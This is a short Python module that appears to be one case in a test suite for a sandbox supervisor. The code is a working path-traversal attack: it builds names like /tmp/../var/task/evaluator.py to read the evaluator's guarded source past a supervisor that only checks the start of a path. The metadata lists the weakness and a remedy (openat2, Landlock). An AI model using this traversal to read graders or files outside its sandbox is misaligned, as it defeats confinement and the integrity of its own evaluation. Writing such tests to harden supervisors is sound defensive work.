# SPDX-License-Identifier: MIT
"""Goal:  the evaluator's source, past a supervisor that compares the beginning of the path.
Means: /tmp/../var/task: a name that begins in an allowed folder and ends elsewhere. One folder that
       is allowed is enough, and every program must be allowed some.
"""

from attack import DONE, attempting, denied, loot

ALLOWED = ("/tmp", "/usr", "/usr/lib", "/etc", "/dev", "/opt/ordeal", "/proc/self")


def run(brief):
    why = None
    attempting()
    for folder in ALLOWED:
        up = "/.." * 8  # at the root, .. is the root
        try:
            with open(f"{folder}{up}/var/task/evaluator.py", "rb") as file:
                loot(file.read())
                return DONE
        except OSError as error:
            why = error
    return denied("every way up and down again", why)


ATTACK = {
    "effect": "a file that the supervisor guards is read",
    "means": "/tmp/../var/task/evaluator.py begins with an allowed folder",
    "oracle": "secret:task",
    "quick": True,
    "id": "UNS-06",
    "attack_id": "T1562.001, CWE-22",
    "remedy": "openat2, then judge the file that is open, not its name; Landlock below",
    "refs": ["openat2(2), RESOLVE_BENEATH"],
    "run": run,
}
